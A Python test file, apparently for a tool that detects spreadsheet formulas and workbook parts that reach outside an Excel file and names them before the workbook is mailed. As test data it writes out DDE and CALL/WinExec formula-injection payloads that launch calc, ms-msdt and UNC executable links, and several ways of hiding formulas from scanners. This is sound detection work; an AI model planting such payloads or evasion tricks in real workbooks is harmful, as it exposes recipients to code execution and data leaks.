"""What people, or others, put in a workbook stays; before a copy is mailed it is named."""

from collections.abc import Callable
from pathlib import Path

import pytest
from conftest import Run
from excel_made import attach as attached
from excel_made import make, packed, put, relate, tabs, unpacked
from mail_server import PostOffice, served
from mailing import ANNA, options
from openpyxl import Workbook
from working import BOOK, Folder, Parts, begun

from forms.excel.markup import ExcelError
from forms.excel.outside import Reach, reaching_out

# A text, whatever it looks like.
_ODD = "a | b! [1] \\\\share WEBSERVICE( =HYPERLINK(A1)"
Plant = Callable[[Parts, str], object]


@pytest.fixture
def folder(tmp_path: Path) -> Folder:
    """Return a folder with a report, and a remark that looks like an attack."""
    return begun(_first, tmp_path)


def _first(path: Path) -> Folder:
    folder = Folder(path, remarks={"A1": "=cmd|'/c calc'!A1", "A2": "=WEBSERVICE(A1)"})
    folder.report()
    return folder


def with_formula(formula: str, text: str = _ODD) -> bytes:
    """Return a workbook with a formula in B7 of a tab."""
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.title = "Mijn blad"
    sheet["A1"] = text
    sheet["B7"] = formula
    return saved(workbook)


def saved(workbook: Workbook) -> bytes:
    """Return a workbook's bytes."""
    import io

    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


@pytest.mark.parametrize(
    "formula",
    [
        '=WEBSERVICE("https://example.nl/?a="&A1)',
        '=_xlfn.WEBSERVICE("https://example.nl/")',
        '=1+_xlfn.FILTERXML(A1,"//a")',
        '=IF(A1>0,_xlfn.IMAGE("https://example.nl/a.png"),"")',
        "=cmd|'/c calc'!A1",
        "='cmd'|'/c calc'!A1",
        '=-2+3+CMD|"/c calc"!A1',
        r'=HYPERLINK("\\share\map\a.exe")',
        '=HYPERLINK("file:///c:/a.exe","klik")',
        '=HYPERLINK( "ms-msdt:/id PCWDiagnostic")',
        '=hyperlink("http:\\\\share/a")',
        '=HYPERLINK("h"&"ttp://a")',
        "=HYPERLINK(A1)",
        r"='\\share\map\[a.xlsx]Blad'!A1",
        "='http://example.nl/[a.xlsx]Blad'!A1",
        '=RTD("a.b",,"c")',
        '=DDE("soffice","a","b")',
        '=CALL("kernel32","WinExec","JCJ","calc",0)',
        '=IMPORTXML("http://a","//b")',
    ],
)
def test_a_formula_that_reaches_outside(formula: str) -> None:
    """It is named with its tab and cell."""
    assert reaching_out(with_formula(formula)) == [Reach("'Mijn blad'!B7", formula)]


@pytest.mark.parametrize(
    "formula",
    [
        "=SUM(A1:A3)",
        '="a|b!"&"WEBSERVICE("&A1',
        '=HYPERLINK("https://example.nl/"&A1,"dossier")',
        '=HYPERLINK("mailto:"&A1)',
        '=HYPERLINK("#\'Mijn blad\'!A1","terug")',
        '=COPY("x")+MYIMAGE(1)+A.RTD(2)',
        "='a | b'!A1+'Blad1:Blad3'!A1",
        '=""""&"\\\\share"',
        "=Tabel1[[#This Row],[Naam]]",
    ],
)
def test_a_formula_that_does_not(formula: str) -> None:
    """Nor does a plain link to the web, to mail or within the file."""
    assert reaching_out(with_formula(formula)) == []


@pytest.mark.parametrize(
    "target",
    [
        r"\\share\map\a.xlsx",
        "file:///C:/a.exe",
        "ms-msdt:/id",
        "//share/a",
        "a.xlsx",
        "javascript:a",
        "HTTP:\\\\share",
        "http:///share",
        "search-ms:query=a",
        " file:a",
    ],
)
@pytest.mark.parametrize("is_plain", [True, False])
def test_a_link(target: str, *, is_plain: bool) -> None:
    """To the web and to mail is what everybody expects."""
    workbook = Workbook()
    sheet = workbook.create_sheet("O'Brien")
    for place, to in {"C3": "https://example.nl", "C4": "MAILTO:a@b.nl"}.items():
        sheet[place] = "klik"
        sheet[place].hyperlink = to
    if not is_plain:
        sheet["D9"] = "klik"
        sheet["D9"].hyperlink = target
    assert reaching_out(saved(workbook)) == ([] if is_plain else [Reach("'O''Brien'!D9", target)])


def in_a_rule(parts: Parts, sheet: str) -> None:
    """Put a formula in a drop-down's list."""
    rule = (
        '<dataValidations count="1"><dataValidation type="list" sqref="Z9">'
        "<formula1>WEBSERVICE(A1)</formula1></dataValidation></dataValidations>"
    )
    put(parts, sheet, rule)


def in_a_name(parts: Parts, _: str) -> None:
    """Put a formula in a name."""
    text = "<definedNames><definedName name=\"Prijs\">cmd|'/c calc'!A1</definedName>"
    book = parts[BOOK].decode().replace("<definedNames>", text)
    parts[BOOK] = book.encode()
    assert "Prijs" in book


def by_dde(parts: Parts, _: str) -> None:
    """Put a DDE link in, as Excel writes it."""
    xml = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    attached(parts, BOOK, "externalLink", xml)


def by_a_picture(parts: Parts, sheet: str) -> None:
    """Let a background picture come from elsewhere."""
    relate(parts, sheet, "image", "http://example.nl/pixel.png", is_outside=True)


def by_a_connection(parts: Parts, _: str) -> None:
    """Ask a page on the web, as a web query does."""
    xml = (
        '<connections><connection id="1" name="Koers" type="4" refreshOnLoad="1">'
        '<webPr url="http://example.nl/koers"/></connection></connections>'
    )
    attached(parts, BOOK, "connections", xml)


PLANTS: dict[str, tuple[Plant, str]] = {
    "in_a_rule": (in_a_rule, "'Actielijst'!Z9 (=WEBSERVICE(A1))"),
    "in_a_name": (in_a_name, "xl/workbook.xml Prijs (=cmd|'/c calc'!A1)"),
    "by_dde": (by_dde, "xl/externalLinks/externalLink1.xml (cmd|/c calc)"),
    "by_a_picture": (by_a_picture, "'Actielijst' (http://example.nl/pixel.png)"),
    "by_a_connection": (by_a_connection, "xl/connections.xml Koers (http://example.nl/koers)"),
}


@pytest.mark.parametrize("name", PLANTS)
def test_what_was_planted_stays_and_is_named_before_it_is_mailed(
    folder: Folder, vinkje: Run, name: str
) -> None:
    """By the report that attaches a copy, and by `send`; what respondents typed is text."""
    assert reaching_out(folder.workbook.read_bytes()) == []
    plant, said = PLANTS[name]
    parts = unpacked(folder.workbook.read_bytes())
    plant(parts, tabs(parts)["Actielijst"])
    folder.workbook.write_bytes(packed(parts))
    planted = reaching_out(folder.workbook.read_bytes())
    made = folder.report()
    (note,) = [each for each in made.notes if each.key == "reaches_out"]
    assert note.values == {"file": "rapport.xlsx", "count": 1, "places": said}
    assert reaching_out(folder.workbook.read_bytes()) == planted
    with served(PostOffice()) as office:
        done = vinkje("send", "rapport.eml", "--to", ANNA, *options(office))
    assert "in rapport-kopie.xlsx people put what reaches outside the file" in done.stderr
    assert said in done.stderr
    assert len(office.taken) == 1
    linked = folder.report(workbook_url="https://example.nl/rapport.xlsx")
    assert not [each for each in linked.notes if each.key == "reaches_out"]


def test_a_workbook_of_real_work(folder: Folder) -> None:
    """Queries, links to other workbooks and web pictures are named, each target once."""
    found = {each.target: each.place for each in reaching_out(make(folder.workbook.read_bytes()))}
    assert len(found) == 3
    assert sum("sharepoint.com" in target for target in found) == 2
    assert any("Mashup" in target for target in found)


HIDDEN: dict[str, Callable[[str], bytes]] = {
    "by references to letters": lambda xml: xml.replace("WEBS", "&#87;&#x45;BS").encode(),
    "by another section": lambda xml: xml.replace("WEBS", "W<![CDATA[EB]]>S").encode(),
    "by another encoding": lambda xml: xml.encode("utf-16"),
    "by old letters": lambda xml: (
        '<?xml version="1.0" encoding="iso-8859-1"?>' + xml.partition("?>")[2]
    ).encode("latin-1", "xmlcharrefreplace"),
    "by a prefix": lambda xml: (
        xml.replace("<f>", "<y:f>")
        .replace("</f>", "</y:f>")
        .replace("<worksheet", '<worksheet xmlns:y="http://a"', 1)
        .encode()
    ),
    "where a piece ends": lambda xml: xml.replace(
        "<f>", f"<!--{'x' * ((1 << 20) - 14 - xml.index('<f>'))}--><f>"
    ).encode(),
}


@pytest.mark.parametrize("name", HIDDEN)
def test_a_formula_that_is_hidden(name: str) -> None:
    """However a part is written."""
    parts = unpacked(with_formula("=WEBSERVICE(A1)", "plat"))
    sheet = "xl/worksheets/sheet1.xml"
    text = parts[sheet].decode()
    assert "<f>WEBSERVICE" in text
    head = "" if text.startswith("<?xml") else '<?xml version="1.0"?>'
    parts[sheet] = HIDDEN[name](head + text)
    assert reaching_out(packed(parts)) == [Reach("'Mijn blad'!B7", "=WEBSERVICE(A1)")]


def test_what_cannot_be_read_is_named_too() -> None:
    """A part with a fault in it may hold anything; what is no workbook at all is an error."""
    parts = unpacked(with_formula("=WEBSERVICE(A1)"))
    parts["xl/worksheets/sheet1.xml"] = parts["xl/worksheets/sheet1.xml"][:-9]
    assert "xl/worksheets/sheet1.xml" in [each.place for each in reaching_out(packed(parts))]
    with pytest.raises(ExcelError):
        reaching_out(b"none")
